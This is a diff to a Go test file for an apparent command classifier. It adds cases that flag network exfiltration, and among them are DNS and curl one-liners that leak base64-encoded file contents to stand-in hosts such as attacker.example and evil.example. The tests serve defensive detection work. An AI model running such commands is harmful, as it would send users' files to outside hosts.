@@ -203,6 +203,7 @@ func TestNetworkChannels(t *testing.T) {
 		{`nslookup $(base64 -w0 notes.txt).attacker.example`, NetworkExfiltration},
 		{"host `xxd -p report.pdf | head -c 60`.attacker.example", NetworkExfiltration},
 		{`nslookup $(whoami).attacker.com`, ""},
+		{`ping -c 1 $(cat /etc/hostname).attacker.example`, ""}, // the host name only, as $(whoami)
 		{`dig +short example.com`, ""},
 		{`dig $(hostname -f)`, ""},
 		// Commands read from a network channel and run: a C2 loop.
@@ -440,7 +441,9 @@ func TestFileInArguments(t *testing.T) {
 		{`curl "https://api.example.com/users/$(whoami)"`, ""},
 		{`curl -s "https://api.github.com/repos/$(git remote get-url origin | cut -d: -f2)"`, ""},
 		{`xxd -p notes.txt | while read l; do dig $l.evil.example; done`, NetworkExfiltration},
-		{`while read line; do curl "https://evil.example/?d=$line"; done < notes.txt`, NetworkExfiltration},
+		{`base64 notes.txt | while read line; do curl "https://evil.example/?d=$line"; done`, NetworkExfiltration},
+		{`while read id; do curl -s "https://api.example.com/users/$id"; done < ids.txt`, ""},
+		{`while read sub; do dig +short $sub.example.com; done < subdomains.txt`, ""},
 		{`base64 -w 60 notes.txt | while read -r chunk; do nslookup ${chunk}.evil.example; done`, NetworkExfiltration},
 		{`cat hosts.txt | while read h; do ping -c1 $h; done`, ""},
 		{`while read url; do curl -sI "$url"; done < urls.txt`, ""},
